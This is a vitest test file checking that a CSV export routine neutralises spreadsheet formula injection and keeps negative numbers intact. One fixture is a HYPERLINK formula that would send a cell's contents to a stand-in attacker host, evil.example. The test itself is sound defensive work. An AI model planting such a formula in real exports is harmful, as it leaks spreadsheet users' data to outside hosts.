import { describe, expect, it } from 'vitest';
import { tableCsv } from '../../core/reports/csv.js';
import type { Table } from '../../core/reports/table.js';

const table = (names: readonly string[], amounts: readonly number[]): Table => ({
  name: 'summary',
  columns: [
    { key: 'institution', header: 'Institution', kind: 'text', decimals: 0 },
    { key: 'kwh', header: 'Electricity (kWh)', kind: 'number', decimals: 1 },
  ],
  rows: names.map((name, i) => ({ kind: 'row', cells: [name, amounts[i] ?? null] })),
});

describe('CSV exports against formula injection (OWASP CSV injection)', () => {
  it('prefixes a quote to text cells a spreadsheet would run, and quotes them per RFC 4180', () => {
    const [, hyperlink, plus, minus, at, tab, cr] = tableCsv(
      table(
        ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'],
        [1, 2, 3, 4, 5, 6],
      ),
    );
    expect(hyperlink).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1.0`);
    expect(plus).toBe("'+1+2,2.0");
    expect(minus).toBe("'-2+3,3.0");
    expect(at).toBe("'@SUM(A1),4.0");
    expect(tab).toBe("'\t=1,5.0");
    expect(cr).toBe(`"'\r=1",6.0`);
  });

  it('keeps negative numbers, and text that is only a number, as they are', () => {
    const [, exported, text] = tableCsv(table(['Solar roof', '-7'], [-12.5, -0.25]));
    expect(exported).toBe('Solar roof,-12.5');
    expect(text).toBe('-7,-0.3');
  });
});
